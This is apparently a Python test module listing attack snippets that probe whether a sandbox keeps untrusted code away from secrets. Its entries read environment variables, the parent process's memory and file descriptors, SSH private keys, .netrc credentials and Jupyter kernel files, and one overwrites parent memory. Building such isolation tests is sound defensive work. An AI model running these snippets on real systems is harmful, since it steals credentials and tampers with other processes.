"""Secrets of the user, and the memory of the process that started the strategy."""

from attacks.attack import at_start, family

READ_MEMORY = """
import ctypes, os
class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(SECRET_LENGTH)
here = Part(ctypes.cast(room, ctypes.c_void_p), SECRET_LENGTH)
there = Part(ADDRESS, SECRET_LENGTH)
"""

ATTACKS = family(
    "secrets",
    {
        "the environment": at_start("print(dict(os.environ))", before="import os"),
        "the environment in /proc": at_start("print(open('/proc/self/environ').read())"),
        "the environment of the parent": at_start(
            "if open(f'/proc/{PARENT}/environ').read(): print(THROUGH)"
        ),
        "the environment through the C library": at_start(
            """
            names = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
            number = 0
            while names[number]:
                print(names[number])
                number += 1
            """,
            before="import ctypes",
        ),
        "the memory of the parent in /proc": at_start(
            """
            with open(f"/proc/{PARENT}/mem", "rb") as memory:
                memory.seek(ADDRESS)
                print(memory.read(SECRET_LENGTH).decode())
            """
        ),
        "the memory of the parent by a call": at_start(
            "libc.process_vm_readv(PARENT, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)\n"
            "print(room.raw)",
            before=READ_MEMORY,
        ),
        "the memory of the parent, changed": at_start(
            "room.raw = b'x' * SECRET_LENGTH\n"
            "libc.process_vm_writev(PARENT, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)",
            before=READ_MEMORY,
        ),
        "the files of the parent": at_start(
            "print(open(f'/proc/{PARENT}/fd/{SECRET_HANDLE}').read())"
        ),
        "a descriptor of the parent": at_start(
            """
            libc = ctypes.CDLL(None, use_errno=True)
            handle = libc.syscall(434, PARENT, 0)
            taken = libc.syscall(438, handle, SECRET_HANDLE, 0)
            print(os.pread(taken, 100, 0))
            """,
            before="import ctypes, os",
        ),
        "a secret file": at_start("print(open(SECRET_FILE).read())"),
        "os.open": at_start("print(os.read(os.open(SECRET_FILE, 0), 99))", before="import os"),
        "linecache": at_start("print(linecache.getlines(SECRET_FILE))", before="import linecache"),
        "fileinput": at_start(
            "print(list(fileinput.input([SECRET_FILE])))", before="import fileinput"
        ),
        "the C library": at_start(
            """
            libc = ctypes.CDLL(None)
            room = ctypes.create_string_buffer(100)
            libc.read(libc.open(SECRET_FILE.encode(), 0), room, 99)
            print(room.value.decode())
            """,
            before="import ctypes",
        ),
        ".netrc": at_start("print(netrc.netrc(HOME + '/.netrc').hosts)", before="import netrc"),
        "a key of SSH": at_start("print(open(HOME + '/.ssh/id_rsa').read())"),
        "the file of the kernel": at_start(
            "print(open(HOME + '/.local/share/jupyter/runtime/kernel-1.json').read())"
        ),
        "the names of files": at_start("print(os.listdir(HOME))", before="import os"),
        "a search for files": at_start(
            "print(glob.glob(HOME + '/**', recursive=True))", before="import glob"
        ),
        "the command lines of others": at_start(
            "print(open(f'/proc/{PARENT}/comm').read(), THROUGH)"
        ),
    },
)
